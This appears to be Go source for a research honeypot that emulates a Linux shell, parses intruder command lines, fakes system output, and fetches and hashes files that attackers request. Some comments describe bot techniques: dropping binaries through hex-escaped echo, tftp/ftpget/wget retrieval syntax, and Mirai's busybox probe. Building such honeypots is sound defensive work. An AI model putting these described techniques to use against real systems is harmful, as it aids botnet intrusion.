		}
	}
	name := cmd.Name
	args := cmd.Args
	if name == "busybox" && len(args) > 0 {
		name, args = args[0], args[1:]
	}
	switch name {
	case "tftp":
		// tftp -g -r file host  |  tftp host -c get file
		var host, file string
		for i := 0; i < len(args); i++ {
			switch args[i] {
			case "-g", "-c", "get":
				continue
			case "-r", "-l":
				if i+1 < len(args) {
					file = args[i+1]
					i++
				}
			default:
				if !strings.HasPrefix(args[i], "-") {
					if host == "" {
						host = args[i]
					} else if file == "" {
						file = args[i]
					}
				}
			}
		}
		if host != "" && !hasURIScheme(host) {
			u := "tftp://" + host
			if file != "" {
				u += "/" + strings.TrimPrefix(file, "/")
			}
			uris = append(uris, u)
		}
	case "ftpget":
		// ftpget -u user -p pass host local remote
		var rest []string
		for i := 0; i < len(args); i++ {
			if strings.HasPrefix(args[i], "-") {
				i++ // skip flag value
				continue
			}
			rest = append(rest, args[i])
		}
		if len(rest) >= 1 && !hasURIScheme(rest[0]) {
			u := "ftp://" + rest[0]
			if len(rest) >= 3 {
				u += "/" + strings.TrimPrefix(rest[2], "/")
			}
			uris = append(uris, u)
		}
	case "scp":
		for _, a := range args {
			if strings.HasPrefix(a, "-") {
				continue
			}
			if i := strings.IndexByte(a, ':'); i > 0 && !hasURIScheme(a) {
				uris = append(uris, "scp://"+a[:i]+"/"+strings.TrimPrefix(a[i+1:], "/"))
			}
		}
	}
	return uris
}

func hasURIScheme(s string) bool {
	for _, scheme := range []string{"http://", "https://", "ftp://", "tftp://", "scp://"} {
		if strings.HasPrefix(s, scheme) {
			return true
		}
	}
	return false
}
