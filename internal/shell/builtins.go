package shell

import (
	"bytes"
	"fmt"
	"path"
	"sort"
	"strconv"
	"strings"

	"honeyfarm/internal/vfs"
)

// builtinFunc executes one emulated command. stdin carries piped input;
// output goes to out; the return value is the exit status.
type builtinFunc func(sh *Shell, args []string, stdin []byte, out *bytes.Buffer) int

// builtins maps every "known" command — the set the honeypot emulates.
// Commands outside this map are recorded verbatim as unknown, exactly as
// Cowrie does ("the honeypot records each command executed by the client
// in a list of known or unknown commands", Section 4).
var builtins map[string]builtinFunc

func init() {
	builtins = map[string]builtinFunc{
		"cat":        bCat,
		"echo":       bEcho,
		"ls":         bLs,
		"cd":         bCd,
		"pwd":        bPwd,
		"uname":      bUname,
		"free":       bFree,
		"w":          bW,
		"who":        bWho,
		"id":         bID,
		"whoami":     bWhoami,
		"hostname":   bHostname,
		"ps":         bPs,
		"top":        bTop,
		"nproc":      bNproc,
		"lscpu":      bLscpu,
		"uptime":     bUptime,
		"wget":       bWget,
		"curl":       bCurl,
		"tftp":       bTftp,
		"ftpget":     bFtpget,
		"scp":        bScp,
		"chmod":      bChmod,
		"chown":      bOk,
		"chpasswd":   bChpasswd,
		"passwd":     bPasswd,
		"mkdir":      bMkdir,
		"rm":         bRm,
		"rmdir":      bRmdir,
		"cp":         bCp,
		"mv":         bMv,
		"touch":      bTouch,
		"head":       bHead,
		"tail":       bTail,
		"grep":       bGrep,
		"egrep":      bGrep,
		"wc":         bWc,
		"which":      bWhich,
		"history":    bHistory,
		"crontab":    bCrontab,
		"kill":       bOk,
		"pkill":      bOk,
		"df":         bDf,
		"du":         bDu,
		"mount":      bMount,
		"dd":         bDd,
		"sync":       bOk,
		"sleep":      bOk,
		"export":     bExport,
		"unset":      bUnset,
		"env":        bEnv,
		"set":        bEnv,
		"sh":         bSh,
		"bash":       bSh,
		"exit":       bExit,
		"logout":     bExit,
		"enable":     bOk,
		"system":     bOk,
		"shell":      bOk,
		"linuxshell": bOk,
		"yes":        bYes,
		"awk":        bAwk,
		"ulimit":     bOk,
		"ifconfig":   bIfconfig,
		"ip":         bIfconfig,
		"netstat":    bNetstat,
		"ss":         bNetstat,
		"uptime2":    bUptime,
		"busybox":    bBusybox,
	}
}

func bOk(*Shell, []string, []byte, *bytes.Buffer) int { return 0 }

func bCat(sh *Shell, args []string, stdin []byte, out *bytes.Buffer) int {
	if len(args) == 0 {
		out.Write(stdin)
		return 0
	}
	rc := 0
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		content, err := sh.FS.ReadFile(sh.CWD, a)
		if err != nil {
			fmt.Fprintf(out, "cat: %s: %s\n", a, shellErr(err))
			rc = 1
			continue
		}
		out.Write(content)
	}
	return rc
}

func bEcho(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	noNewline := false
	interpret := false
	i := 0
	for ; i < len(args); i++ {
		switch args[i] {
		case "-n":
			noNewline = true
		case "-e":
			interpret = true
		case "-ne", "-en":
			noNewline, interpret = true, true
		default:
			goto body
		}
	}
body:
	s := strings.Join(args[i:], " ")
	if interpret {
		s = expandEscapes(s)
	}
	out.WriteString(s)
	if !noNewline {
		out.WriteByte('\n')
	}
	return 0
}

// expandEscapes interprets echo -e escapes, including \xHH hex bytes —
// bots use `echo -ne "\x7f\x45..."` to drop binary payloads through the
// shell, producing the file hashes the paper tracks.
func expandEscapes(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' || i+1 >= len(s) {
			b.WriteByte(s[i])
			continue
		}
		i++
		switch s[i] {
		case 'n':
			b.WriteByte('\n')
		case 't':
			b.WriteByte('\t')
		case 'r':
			b.WriteByte('\r')
		case '\\':
			b.WriteByte('\\')
		case '0', '1', '2', '3', '4', '5', '6', '7':
			// Octal escapes: backslash-0nnn (bash) and backslash-nnn (busybox).
			j := i
			if s[i] == '0' {
				j++
			}
			k := j
			for k < len(s) && k < j+3 && s[k] >= '0' && s[k] <= '7' {
				k++
			}
			if v, err := strconv.ParseUint(s[j:k], 8, 8); err == nil && k > j {
				b.WriteByte(byte(v))
				i = k - 1
			} else if s[i] == '0' {
				b.WriteByte(0)
			}
		case 'x':
			if i+2 < len(s) {
				if v, err := strconv.ParseUint(s[i+1:i+3], 16, 8); err == nil {
					b.WriteByte(byte(v))
					i += 2
					continue
				}
			}
			b.WriteString("\\x")
		default:
			b.WriteByte('\\')
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

func bLs(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	long := false
	all := false
	var paths []string
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			if strings.Contains(a, "l") {
				long = true
			}
			if strings.Contains(a, "a") {
				all = true
			}
			continue
		}
		paths = append(paths, a)
	}
	if len(paths) == 0 {
		paths = []string{"."}
	}
	rc := 0
	for _, p := range paths {
		nodes, err := sh.FS.List(sh.CWD, p)
		if err != nil {
			fmt.Fprintf(out, "ls: cannot access '%s': %s\n", p, shellErr(err))
			rc = 2
			continue
		}
		for _, n := range nodes {
			if !all && strings.HasPrefix(n.Name, ".") {
				continue
			}
			if long {
				typ := "-"
				if n.IsDir() {
					typ = "d"
				}
				fmt.Fprintf(out, "%s%s 1 root root %8d %s %s\n",
					typ, modeString(n.Mode), n.Size(), n.MTime.Format("Jan _2 15:04"), n.Name)
			} else {
				fmt.Fprintln(out, n.Name)
			}
		}
	}
	return rc
}

func modeString(mode uint32) string {
	const rwx = "rwxrwxrwx"
	var b [9]byte
	for i := 0; i < 9; i++ {
		if mode&(1<<uint(8-i)) != 0 {
			b[i] = rwx[i]
		} else {
			b[i] = '-'
		}
	}
	return string(b[:])
}

func bCd(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	target := sh.Env["HOME"]
	if len(args) > 0 {
		target = args[0]
	}
	abs := vfs.Normalize(sh.CWD, target)
	n, err := sh.FS.Stat("/", abs)
	if err != nil {
		fmt.Fprintf(out, "-bash: cd: %s: %s\n", target, shellErr(err))
		return 1
	}
	if !n.IsDir() {
		fmt.Fprintf(out, "-bash: cd: %s: Not a directory\n", target)
		return 1
	}
	sh.CWD = abs
	return 0
}

func bPwd(sh *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintln(out, sh.CWD)
	return 0
}

func bUname(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	const (
		kernel  = "Linux"
		release = "4.19.0-18-amd64"
		machine = "x86_64"
		version = "#1 SMP Debian 4.19.208-1 (2021-09-29)"
	)
	if len(args) == 0 {
		fmt.Fprintln(out, kernel)
		return 0
	}
	var parts []string
	for _, a := range args {
		switch a {
		case "-a", "--all":
			parts = []string{kernel, sh.Host, release, version, machine, "GNU/Linux"}
		case "-s":
			parts = append(parts, kernel)
		case "-n":
			parts = append(parts, sh.Host)
		case "-r":
			parts = append(parts, release)
		case "-m", "-p":
			parts = append(parts, machine)
		case "-v":
			parts = append(parts, version)
		}
	}
	fmt.Fprintln(out, strings.Join(parts, " "))
	return 0
}

func bFree(_ *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	unit := 1024 // -k default
	for _, a := range args {
		if a == "-m" {
			unit = 1024 * 1024
		}
		if a == "-g" {
			unit = 1024 * 1024 * 1024
		}
	}
	total, used, free := 1039198208/unit, 350000128/unit, 689198080/unit
	fmt.Fprintf(out, "              total        used        free      shared  buff/cache   available\n")
	fmt.Fprintf(out, "Mem:    %11d %11d %11d %11d %11d %11d\n", total, used, free, 0, 18*1024*1024/unit, free)
	fmt.Fprintf(out, "Swap:   %11d %11d %11d\n", 0, 0, 0)
	return 0
}

func bW(sh *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, " 12:01:32 up 16 days, 14:02,  1 user,  load average: 0.00, 0.01, 0.05\n")
	fmt.Fprintf(out, "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n")
	fmt.Fprintf(out, "%-8s pts/0    10.0.0.2         12:01    0.00s  0.02s  0.00s w\n", sh.User)
	return 0
}

func bWho(sh *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, "%-8s pts/0        2022-06-01 12:01 (10.0.0.2)\n", sh.User)
	return 0
}

func bID(sh *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, "uid=0(%s) gid=0(root) groups=0(root)\n", sh.User)
	return 0
}

func bWhoami(sh *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintln(out, sh.User)
	return 0
}

func bHostname(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	if len(args) > 0 && !strings.HasPrefix(args[0], "-") {
		sh.Host = args[0]
		return 0
	}
	fmt.Fprintln(out, sh.Host)
	return 0
}

func bPs(_ *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, "  PID TTY          TIME CMD\n")
	fmt.Fprintf(out, "    1 ?        00:00:02 systemd\n")
	fmt.Fprintf(out, "  412 ?        00:00:00 sshd\n")
	fmt.Fprintf(out, " 8761 pts/0    00:00:00 bash\n")
	fmt.Fprintf(out, " 8764 pts/0    00:00:00 ps\n")
	return 0
}

func bTop(sh *Shell, args []string, stdin []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, "top - 12:01:32 up 16 days, 14:02,  1 user,  load average: 0.00, 0.01, 0.05\n")
	fmt.Fprintf(out, "Tasks: 120 total,   1 running, 119 sleeping,   0 stopped,   0 zombie\n")
	return bPs(sh, args, stdin, out)
}

func bNproc(_ *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintln(out, 1)
	return 0
}

func bLscpu(_ *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, "Architecture:        x86_64\nCPU op-mode(s):      32-bit, 64-bit\nCPU(s):              1\n")
	fmt.Fprintf(out, "Model name:          Intel(R) Core(TM) i5-8250U CPU @ 1.60GHz\n")
	return 0
}

func bUptime(_ *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, " 12:01:32 up 16 days, 14:02,  1 user,  load average: 0.00, 0.01, 0.05\n")
	return 0
}

// download fetches a URI and writes it into the fake filesystem,
// recording the file event. Used by wget/curl/tftp/ftpget.
func (sh *Shell) download(uri, dest string, out *bytes.Buffer, tool string) int {
	if sh.Fetch == nil {
		fmt.Fprintf(out, "%s: can't connect to remote host: Network is unreachable\n", tool)
		return 1
	}
	content, err := sh.Fetch(uri)
	if err != nil {
		fmt.Fprintf(out, "%s: bad address '%s'\n", tool, uri)
		return 1
	}
	ev, err := sh.FS.WriteFile(sh.CWD, dest, content, 0o644)
	if err != nil {
		fmt.Fprintf(out, "%s: %s: %s\n", tool, dest, shellErr(err))
		return 1
	}
	sh.Rec.File(ev)
	return 0
}

func basenameFromURI(uri string) string {
	s := uri
	if i := strings.Index(s, "://"); i >= 0 {
		s = s[i+3:]
	}
	if i := strings.IndexByte(s, '?'); i >= 0 {
		s = s[:i]
	}
	if strings.HasSuffix(s, "/") || !strings.Contains(s, "/") {
		return "index.html"
	}
	b := path.Base(s)
	if b == "." || b == "/" {
		return "index.html"
	}
	return b
}

func bWget(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	var uri, dest string
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "-O" || a == "-o":
			if i+1 < len(args) {
				dest = args[i+1]
				i++
			}
		case strings.HasPrefix(a, "-"):
		default:
			uri = a
		}
	}
	if uri == "" {
		fmt.Fprintf(out, "wget: missing URL\n")
		return 1
	}
	if !hasURIScheme(uri) {
		uri = "http://" + uri
	}
	if dest == "" {
		dest = basenameFromURI(uri)
	}
	rc := sh.download(uri, dest, out, "wget")
	if rc == 0 {
		fmt.Fprintf(out, "'%s' saved\n", dest)
	}
	return rc
}

func bCurl(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	var uri, dest string
	remoteName := false
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "-o" || a == "--output":
			if i+1 < len(args) {
				dest = args[i+1]
				i++
			}
		case a == "-O" || a == "--remote-name":
			remoteName = true
		case strings.HasPrefix(a, "-"):
		default:
			uri = a
		}
	}
	if uri == "" {
		fmt.Fprintf(out, "curl: no URL specified!\n")
		return 2
	}
	if !hasURIScheme(uri) {
		uri = "http://" + uri
	}
	if remoteName && dest == "" {
		dest = basenameFromURI(uri)
	}
	if dest != "" {
		return sh.download(uri, dest, out, "curl")
	}
	// To stdout: fetched content flows through pipes/redirects, so a
	// redirected curl still produces a file event via the shell's
	// redirect path.
	if sh.Fetch == nil {
		fmt.Fprintf(out, "curl: (7) Failed to connect\n")
		return 7
	}
	content, err := sh.Fetch(uri)
	if err != nil {
		fmt.Fprintf(out, "curl: (6) Could not resolve host\n")
		return 6
	}
	out.Write(content)
	return 0
}

func bTftp(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	uris := ExtractURIs(Command{Name: "tftp", Args: args})
	if len(uris) == 0 {
		fmt.Fprintf(out, "tftp: usage\n")
		return 1
	}
	return sh.download(uris[0], basenameFromURI(uris[0]), out, "tftp")
}

func bFtpget(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	uris := ExtractURIs(Command{Name: "ftpget", Args: args})
	if len(uris) == 0 {
		fmt.Fprintf(out, "ftpget: usage\n")
		return 1
	}
	// Local name is the second positional argument when present.
	var rest []string
	for i := 0; i < len(args); i++ {
		if strings.HasPrefix(args[i], "-") {
			i++
			continue
		}
		rest = append(rest, args[i])
	}
	dest := basenameFromURI(uris[0])
	if len(rest) >= 2 {
		dest = rest[1]
	}
	return sh.download(uris[0], dest, out, "ftpget")
}

func bScp(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	uris := ExtractURIs(Command{Name: "scp", Args: args})
	if len(uris) == 0 {
		fmt.Fprintf(out, "usage: scp [-r] source target\n")
		return 1
	}
	return sh.download(uris[0], basenameFromURI(uris[0]), out, "scp")
}

func bChmod(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	var mode uint32 = 0o755
	rc := 0
	seenMode := false
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		if !seenMode {
			if v, err := strconv.ParseUint(a, 8, 32); err == nil {
				mode = uint32(v)
			}
			seenMode = true
			continue
		}
		if err := sh.FS.Chmod(sh.CWD, a, mode); err != nil {
			fmt.Fprintf(out, "chmod: cannot access '%s': %s\n", a, shellErr(err))
			rc = 1
		}
	}
	return rc
}

func bChpasswd(_ *Shell, _ []string, _ []byte, _ *bytes.Buffer) int { return 0 }

func bPasswd(sh *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, "passwd: password updated successfully\n")
	return 0
}

func bMkdir(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	parents := false
	rc := 0
	for _, a := range args {
		if a == "-p" {
			parents = true
		}
	}
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		var err error
		if parents {
			err = sh.FS.MkdirAll(sh.CWD, a, 0o755)
		} else {
			err = sh.FS.Mkdir(sh.CWD, a, 0o755)
		}
		if err != nil {
			fmt.Fprintf(out, "mkdir: cannot create directory '%s': %s\n", a, shellErr(err))
			rc = 1
		}
	}
	return rc
}

func bRm(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	recursive := false
	force := false
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			if strings.Contains(a, "r") || strings.Contains(a, "R") {
				recursive = true
			}
			if strings.Contains(a, "f") {
				force = true
			}
		}
	}
	rc := 0
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		var err error
		if recursive {
			err = sh.FS.RemoveAll(sh.CWD, a)
		} else {
			err = sh.FS.Remove(sh.CWD, a)
		}
		if err != nil && !force {
			fmt.Fprintf(out, "rm: cannot remove '%s': %s\n", a, shellErr(err))
			rc = 1
		}
	}
	return rc
}

func bRmdir(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	rc := 0
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		if err := sh.FS.Remove(sh.CWD, a); err != nil {
			fmt.Fprintf(out, "rmdir: failed to remove '%s': %s\n", a, shellErr(err))
			rc = 1
		}
	}
	return rc
}

func bCp(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	var paths []string
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			paths = append(paths, a)
		}
	}
	if len(paths) < 2 {
		fmt.Fprintf(out, "cp: missing file operand\n")
		return 1
	}
	src, dst := paths[0], paths[1]
	content, err := sh.FS.ReadFile(sh.CWD, src)
	if err != nil {
		fmt.Fprintf(out, "cp: cannot stat '%s': %s\n", src, shellErr(err))
		return 1
	}
	if n, err := sh.FS.Stat(sh.CWD, dst); err == nil && n.IsDir() {
		dst = vfs.Normalize(sh.CWD, dst) + "/" + path.Base(src)
	}
	ev, err := sh.FS.WriteFile(sh.CWD, dst, content, 0o644)
	if err != nil {
		fmt.Fprintf(out, "cp: cannot create '%s': %s\n", dst, shellErr(err))
		return 1
	}
	sh.Rec.File(ev)
	return 0
}

func bMv(sh *Shell, args []string, stdin []byte, out *bytes.Buffer) int {
	var paths []string
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			paths = append(paths, a)
		}
	}
	if len(paths) < 2 {
		fmt.Fprintf(out, "mv: missing file operand\n")
		return 1
	}
	if rc := bCp(sh, paths, stdin, out); rc != 0 {
		return rc
	}
	if err := sh.FS.RemoveAll(sh.CWD, paths[0]); err != nil {
		fmt.Fprintf(out, "mv: cannot remove '%s': %s\n", paths[0], shellErr(err))
		return 1
	}
	return 0
}

func bTouch(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	rc := 0
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		if sh.FS.Exists(sh.CWD, a) {
			continue
		}
		ev, err := sh.FS.WriteFile(sh.CWD, a, nil, 0o644)
		if err != nil {
			fmt.Fprintf(out, "touch: cannot touch '%s': %s\n", a, shellErr(err))
			rc = 1
			continue
		}
		sh.Rec.File(ev)
	}
	return rc
}

func headTailInput(sh *Shell, args []string, stdin []byte, out *bytes.Buffer, tool string) ([]byte, int, bool) {
	n := 10
	var file string
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "-n" && i+1 < len(args):
			if v, err := strconv.Atoi(args[i+1]); err == nil {
				n = v
			}
			i++
		case strings.HasPrefix(a, "-n"):
			if v, err := strconv.Atoi(a[2:]); err == nil {
				n = v
			}
		case strings.HasPrefix(a, "-"):
			if v, err := strconv.Atoi(a[1:]); err == nil {
				n = v
			}
		default:
			file = a
		}
	}
	data := stdin
	if file != "" {
		var err error
		data, err = sh.FS.ReadFile(sh.CWD, file)
		if err != nil {
			fmt.Fprintf(out, "%s: cannot open '%s' for reading: %s\n", tool, file, shellErr(err))
			return nil, 0, false
		}
	}
	return data, n, true
}

func bHead(sh *Shell, args []string, stdin []byte, out *bytes.Buffer) int {
	data, n, ok := headTailInput(sh, args, stdin, out, "head")
	if !ok {
		return 1
	}
	lines := splitLines(data)
	if n < len(lines) {
		lines = lines[:n]
	}
	writeLines(out, lines)
	return 0
}

func bTail(sh *Shell, args []string, stdin []byte, out *bytes.Buffer) int {
	data, n, ok := headTailInput(sh, args, stdin, out, "tail")
	if !ok {
		return 1
	}
	lines := splitLines(data)
	if n < len(lines) {
		lines = lines[len(lines)-n:]
	}
	writeLines(out, lines)
	return 0
}

func splitLines(data []byte) []string {
	if len(data) == 0 {
		return nil
	}
	s := strings.TrimSuffix(string(data), "\n")
	if s == "" {
		return nil
	}
	return strings.Split(s, "\n")
}

func writeLines(out *bytes.Buffer, lines []string) {
	for _, l := range lines {
		out.WriteString(l)
		out.WriteByte('\n')
	}
}

func bGrep(sh *Shell, args []string, stdin []byte, out *bytes.Buffer) int {
	invert := false
	var pattern, file string
	for _, a := range args {
		switch {
		case a == "-v":
			invert = true
		case strings.HasPrefix(a, "-"):
		case pattern == "":
			pattern = a
		case file == "":
			file = a
		}
	}
	if pattern == "" {
		fmt.Fprintf(out, "Usage: grep [OPTIONS] PATTERN [FILE]...\n")
		return 2
	}
	data := stdin
	if file != "" {
		var err error
		data, err = sh.FS.ReadFile(sh.CWD, file)
		if err != nil {
			fmt.Fprintf(out, "grep: %s: %s\n", file, shellErr(err))
			return 2
		}
	}
	matched := 0
	for _, l := range splitLines(data) {
		if strings.Contains(l, pattern) != invert {
			fmt.Fprintln(out, l)
			matched++
		}
	}
	if matched == 0 {
		return 1
	}
	return 0
}

func bWc(_ *Shell, args []string, stdin []byte, out *bytes.Buffer) int {
	lines := len(splitLines(stdin))
	words := len(strings.Fields(string(stdin)))
	chars := len(stdin)
	onlyLines := false
	for _, a := range args {
		if a == "-l" {
			onlyLines = true
		}
	}
	if onlyLines {
		fmt.Fprintf(out, "%d\n", lines)
	} else {
		fmt.Fprintf(out, "%7d %7d %7d\n", lines, words, chars)
	}
	return 0
}

func bWhich(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	rc := 1
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		if _, ok := builtins[a]; ok && sh.FS.Exists("/", "/bin/"+a) {
			fmt.Fprintf(out, "/bin/%s\n", a)
			rc = 0
		} else if _, ok := builtins[a]; ok {
			fmt.Fprintf(out, "/usr/bin/%s\n", a)
			rc = 0
		}
	}
	return rc
}

func bHistory(sh *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	for i, h := range sh.history {
		fmt.Fprintf(out, "%5d  %s\n", i+1, h)
	}
	return 0
}

func bCrontab(_ *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	for _, a := range args {
		if a == "-l" {
			fmt.Fprintf(out, "no crontab for root\n")
			return 1
		}
	}
	return 0
}

func bDf(_ *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, "Filesystem     1K-blocks    Used Available Use%% Mounted on\n")
	fmt.Fprintf(out, "/dev/sda1       20509264 3650908  15793492  19%% /\n")
	return 0
}

func bDu(_ *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, "16\t.\n")
	return 0
}

func bMount(_ *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	if len(args) == 0 {
		fmt.Fprintf(out, "/dev/sda1 on / type ext4 (rw,relatime,errors=remount-ro)\n")
		fmt.Fprintf(out, "proc on /proc type proc (rw,nosuid,nodev,noexec,relatime)\n")
	}
	return 0
}

func bDd(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	var of string
	count, bs := 1, 512
	for _, a := range args {
		switch {
		case strings.HasPrefix(a, "of="):
			of = a[3:]
		case strings.HasPrefix(a, "count="):
			if v, err := strconv.Atoi(a[6:]); err == nil {
				count = v
			}
		case strings.HasPrefix(a, "bs="):
			if v, err := strconv.Atoi(a[3:]); err == nil {
				bs = v
			}
		}
	}
	n := count * bs
	if n > 1<<20 {
		n = 1 << 20
	}
	if of != "" && of != "/dev/null" {
		ev, err := sh.FS.WriteFile(sh.CWD, of, make([]byte, n), 0o644)
		if err != nil {
			fmt.Fprintf(out, "dd: failed to open '%s': %s\n", of, shellErr(err))
			return 1
		}
		sh.Rec.File(ev)
	}
	fmt.Fprintf(out, "%d+0 records in\n%d+0 records out\n%d bytes copied\n", count, count, n)
	return 0
}

func bExport(sh *Shell, args []string, _ []byte, _ *bytes.Buffer) int {
	for _, a := range args {
		if k, v, ok := strings.Cut(a, "="); ok {
			sh.Env[k] = v
		}
	}
	return 0
}

func bUnset(sh *Shell, args []string, _ []byte, _ *bytes.Buffer) int {
	for _, a := range args {
		delete(sh.Env, a)
	}
	return 0
}

func bEnv(sh *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	keys := make([]string, 0, len(sh.Env))
	for k := range sh.Env {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		fmt.Fprintf(out, "%s=%s\n", k, sh.Env[k])
	}
	return 0
}

func bSh(sh *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	for i := 0; i < len(args); i++ {
		if args[i] == "-c" && i+1 < len(args) {
			// Nested interpretation; output goes to the session writer
			// through the normal Run path.
			return sh.Run(args[i+1])
		}
	}
	return 0
}

func bExit(sh *Shell, args []string, _ []byte, _ *bytes.Buffer) int {
	sh.exited = true
	if len(args) > 0 {
		if v, err := strconv.Atoi(args[0]); err == nil {
			sh.exitCode = v
		}
	}
	return sh.exitCode
}

func bYes(_ *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	s := "y"
	if len(args) > 0 {
		s = strings.Join(args, " ")
	}
	// Bounded: a honeypot must not let `yes` spin forever.
	for i := 0; i < 100; i++ {
		fmt.Fprintln(out, s)
	}
	return 0
}

func bAwk(_ *Shell, args []string, stdin []byte, out *bytes.Buffer) int {
	// Minimal awk: support '{print $N}' which covers the recon one-liners
	// bots run (e.g. `grep name /proc/cpuinfo | awk '{print $4}'`).
	prog := ""
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			prog = a
			break
		}
	}
	field := 0
	if i := strings.Index(prog, "$"); i >= 0 {
		if v, err := strconv.Atoi(strings.TrimRight(prog[i+1:], "}' \t")); err == nil {
			field = v
		}
	}
	for _, l := range splitLines(stdin) {
		if field == 0 {
			fmt.Fprintln(out, l)
			continue
		}
		fields := strings.Fields(l)
		if field <= len(fields) {
			fmt.Fprintln(out, fields[field-1])
		} else {
			fmt.Fprintln(out)
		}
	}
	return 0
}

func bIfconfig(_ *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n")
	fmt.Fprintf(out, "        inet 10.0.0.5  netmask 255.255.255.0  broadcast 10.0.0.255\n")
	return 0
}

func bNetstat(_ *Shell, _ []string, _ []byte, out *bytes.Buffer) int {
	fmt.Fprintf(out, "Active Internet connections (w/o servers)\n")
	fmt.Fprintf(out, "Proto Recv-Q Send-Q Local Address           Foreign Address         State\n")
	fmt.Fprintf(out, "tcp        0      0 10.0.0.5:22             10.0.0.2:51822          ESTABLISHED\n")
	return 0
}

func bBusybox(_ *Shell, args []string, _ []byte, out *bytes.Buffer) int {
	// Bare `busybox` or an unknown applet: print the applet-not-found
	// banner Mirai uses as a fingerprint probe.
	if len(args) == 0 {
		fmt.Fprintf(out, "BusyBox v1.30.1 (Debian 1:1.30.1-4) multi-call binary.\n")
		return 0
	}
	fmt.Fprintf(out, "%s: applet not found\n", args[0])
	return 127
}
