// Package shell implements the honeypot's emulated Unix shell — the
// medium-interaction core that distinguishes Cowrie-class honeypots from
// low-interaction ones. It tokenizes and parses intruder command lines
// (quoting, `;`, `|`, `&&`, `||`, output redirection), emulates a set of
// "known" commands against the fake filesystem, records unknown commands
// verbatim, extracts URIs from remote-retrieval commands, and surfaces
// file create/modify events with content hashes.
//
// The paper's Section 8 derives its command and hash analyses from
// exactly this recording model: commands split at separators, URIs logged
// when a command retrieves a remote resource, and a SHA-256 hash recorded
// whenever a command creates or modifies a file.
package shell

import (
	"fmt"
	"strings"
)

// Operator separates or connects simple commands.
type Operator uint8

// Operator values.
const (
	OpNone Operator = iota // end of list
	OpSeq                  // ;
	OpPipe                 // |
	OpAnd                  // &&
	OpOr                   // ||
)

func (op Operator) String() string {
	switch op {
	case OpSeq:
		return ";"
	case OpPipe:
		return "|"
	case OpAnd:
		return "&&"
	case OpOr:
		return "||"
	}
	return ""
}

// Redirect describes an output redirection attached to a simple command.
type Redirect struct {
	Path   string
	Append bool // >> vs >
}

// Command is one simple command with its arguments, optional redirection,
// and the operator connecting it to the next command in the list.
type Command struct {
	Name     string
	Args     []string
	Redirect *Redirect
	Op       Operator // connection to the NEXT command
	Raw      string   // the raw text of this command segment, trimmed
}

// token is produced by the lexer.
type token struct {
	kind tokenKind
	text string
}

type tokenKind uint8

const (
	tokWord tokenKind = iota
	tokSeq            // ;
	tokPipe
	tokAnd
	tokOr
	tokRedir       // >
	tokRedirAppend // >>
	tokBackground  // &
)

// lex splits a command line into tokens, honoring single quotes, double
